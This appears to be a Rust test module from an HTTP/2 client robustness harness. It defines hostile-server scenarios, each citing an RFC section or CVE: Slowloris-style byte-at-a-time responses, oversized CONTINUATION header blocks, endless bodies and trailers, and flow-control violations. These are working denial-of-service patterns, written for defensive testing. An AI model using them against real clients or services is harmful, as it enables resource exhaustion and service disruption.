//! Responses without an end.

use std::time::Duration;

use crate::attack::Attack;
use crate::bounds::{BOUNDS, Bounds};
use crate::peer::{forged, headers};
use crate::support::Frame;
use crate::support::wire::kind;

/// The head of a response and then this, until the client is gone.
fn after_head(name: &'static str, source: &'static str, what: &'static str) -> Attack {
    let time = Duration::from_secs(31);
    Attack::new(name, source, what)
        .bound_by("the caller's timeout for the whole with the body")
        .load(10, 5)
        .with_timeouts()
        .within(Bounds { attempts: 3, time, pings: 2, polls: 200_000, ..BOUNDS })
}

pub(crate) fn attacks() -> Vec<Attack> {
    let second = Duration::from_secs(1);
    let too_large = "h2: the largest header list, 16 KiB; ours: two resends";
    vec![
        Attack::new("head-too-large", "RFC 9113, 10.5.1", "a head of 64 KiB in one header block")
            .bound_by(too_large)
            .within(Bounds { peak: 4_096, ..BOUNDS })
            .serve(|mut peer| async move {
                peer.greet(&[]).await?;
                loop {
                    let stream = peer.request().await?.stream_id;
                    let field = [&[0, 3][..], b"x-a", &[100], &[b'a'; 100]].concat();
                    let block = [b"\x88".to_vec(), field.repeat(600)].concat();
                    let (first, rest) = block.split_at(16_000);
                    peer.raw(forged(16_000, kind::HEADERS, 0, stream, first)).await?;
                    let parts: Vec<_> = rest.chunks(16_000).collect();
                    for (n, part) in parts.iter().enumerate() {
                        let end = if n + 1 == parts.len() { 4 } else { 0 };
                        peer.raw(forged(part.len() as u32, kind::CONTINUATION, end, stream, part)).await?;
                    }
                }
            }),
        Attack::new("head-by-the-byte", "CVE-2007-6750 (Slowloris)", "one byte of a response's head every second")
            .bound_by("the caller's timeout for an attempt")
            .load(10, 5)
            .with_timeouts()
            .within(Bounds { attempts: 3, time: Duration::from_secs(16), ..BOUNDS })
            .serve(move |mut peer| async move {
                peer.greet(&[]).await?;
                let stream = peer.request().await?.stream_id;
                for byte in forged(4_000, kind::HEADERS, 4, stream, &[0; 4_000]) {
                    peer.raw([byte]).await?;
                    peer.idle(second).await?;
                }
                Ok(())
            }),
        after_head("body-by-the-byte", "CVE-2019-9511", "one byte of a response's body every second").serve(
            move |mut peer| async move {
                peer.greet(&[]).await?;
                let stream = peer.request().await?.stream_id;
                peer.send(&[headers(stream, Some(200), &[], false)]).await?;
                loop {
                    peer.send(&[Frame::data(stream, "x", false)]).await?;
                    peer.idle(second).await?;
                }
            },
        ),
        after_head("body-stalls", "golang/go#39750", "a response's head, and PINGs answered, but no body").serve(
            |mut peer| async move {
                peer.greet(&[]).await?;
                loop {
                    let stream = peer.request().await?.stream_id;
                    peer.send(&[headers(stream, Some(200), &[], false)]).await?;
                }
            },
        ),
        after_head("endless-body", "RFC 9113, 10.5", "a body that never ends, of ones that are read: 100 KB a second")
            .serve(|mut peer| async move {
                peer.greet(&[]).await?;
                let stream = peer.request().await?.stream_id;
                peer.send(&[headers(stream, Some(200), &[], false)]).await?;
                peer.flood(|_| vec![Frame::data(stream, vec![b'x'; 1_000], false)]).await
            }),
        Attack::new("flow-control-ignored", "RFC 9113, 6.9", "more of a body than the window has room for")
            .bound_by(
                "h2: the window, 2 MiB for a stream and 5 MiB for a connection; what has a head is not resent here",
            )
            .within(Bounds { peak: 4_096, polls: 400_000, time: Duration::from_secs(31), ..BOUNDS })
            .load(10, 5)
            .with_timeouts()
            .unread()
            .serve(|mut peer| async move {
                peer.greet(&[]).await?;
                let stream = peer.request().await?.stream_id;
                peer.send(&[headers(stream, Some(200), &[], false)]).await?;
                let block = vec![b'x'; 16_000];
                peer.flood(|_| vec![Frame::data(stream, block.clone(), false); 10]).await
            }),
        Attack::new("endless-trailers", "RFC 9113, 8.1", "trailers of 64 KiB and no end, in CONTINUATIONs")
            .bound_by("h2: so many CONTINUATIONs for a header block; what has a head is not resent here")
            .within(BOUNDS)
            .serve(|mut peer| async move {
                peer.greet(&[]).await?;
                let stream = peer.request().await?.stream_id;
                peer.send(&[headers(stream, Some(200), &[], false), Frame::data(stream, "body", false)]).await?;
                let field = [&[0, 3][..], b"x-a", &[100], &[b'a'; 100]].concat();
                peer.raw(forged(field.len() as u32, kind::HEADERS, 1, stream, &field)).await?;
                let block = field.repeat(100);
                peer.pour(forged(block.len() as u32, kind::CONTINUATION, 0, stream, &block)).await
            }),
    ]
}
